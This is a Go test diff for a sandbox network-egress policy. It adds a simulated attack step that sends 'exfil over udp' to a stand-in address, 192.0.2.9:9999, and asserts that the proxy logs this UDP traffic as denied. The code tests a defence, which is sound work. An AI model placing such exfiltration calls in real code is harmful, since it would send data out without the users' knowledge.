@@ -12,6 +12,7 @@ import (
 	"net/netip"
 	"net/url"
 	"os"
+	"slices"
 	"strings"
 	"sync"
 	"sync/atomic"
@@ -152,6 +153,10 @@ func attackScenario() any {
 	} else {
 		c.Close()
 	}
+	if u, err := net.Dial("udp", "192.0.2.9:9999"); err == nil {
+		u.Write([]byte("exfil over udp"))
+		u.Close()
+	}
 	r.Steps["fake4"] = talk(net.JoinHostPort(r.Fake4, allowedPort))
 	r.Steps["fake6"] = talk(net.JoinHostPort(r.Fake6, allowedPort))
 	r.Steps["hostLoopback"] = talk("127.0.0.1:" + allowedPort)
@@ -279,6 +284,12 @@ func TestLiveEgressPolicy(t *testing.T) {
 	}
 	var r attackResult
 	sb.Wait(t, &r)
+	// Drop reports arrive asynchronously; give the last one a moment.
+	for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline); time.Sleep(10 * time.Millisecond) {
+		if slices.ContainsFunc(p.Log(), func(c netproxy.Conn) bool { return c.Proto == "udp" }) {
+			break
+		}
+	}
 	p.Close()
 
 	if strings.Join(r.Interfaces, ",") != "lo" {
@@ -377,6 +388,9 @@ func TestLiveEgressPolicy(t *testing.T) {
 		}},
 		{"loop.test", func(c netproxy.Conn) bool {
 			return c.Name == "loop.test" && !c.Allowed && strings.Contains(c.Reason, "loopback")
+		}},
+		{"udp 192.0.2.9:9999", func(c netproxy.Conn) bool {
+			return c.Proto == "udp" && c.IP == "192.0.2.9" && c.Port == 9999 && !c.Allowed
 		}},
 		{"CONNECT denied.test", func(c netproxy.Conn) bool { return c.Proto == "http-connect" && c.Name == "denied.test" && !c.Allowed }},
 	} {
